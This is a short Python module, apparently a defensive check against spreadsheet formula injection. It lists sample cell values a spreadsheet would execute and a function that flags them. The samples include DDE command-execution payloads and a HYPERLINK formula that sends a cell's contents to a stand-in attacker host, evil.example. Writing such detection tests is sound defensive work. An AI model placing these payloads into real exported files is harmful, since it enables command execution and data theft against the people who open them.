"""Cells that a spreadsheet would carry out, and what it takes for plain text."""

from __future__ import annotations

import unicodedata

FORMULA_STARTS = "=+-@\t\r\n＝＋－＠"
FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n@x",
    "  =1+1", "\x00=1+1", "\u200b=1+1", "\u202e=1+1", "\ufeff=1+1", "\x1b[31m=1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '=HYPERLINK("https://evil.example?x="&A1,"click")', "=1\n=2", 'x",=1+1', "x;=1+1", "'=1+1",
]  # fmt: skip


def is_harmless(text: str) -> bool:
    return not text.startswith(tuple(FORMULA_STARTS)) and not any(
        unicodedata.category(letter) in ("Cc", "Cs") for letter in text
    )
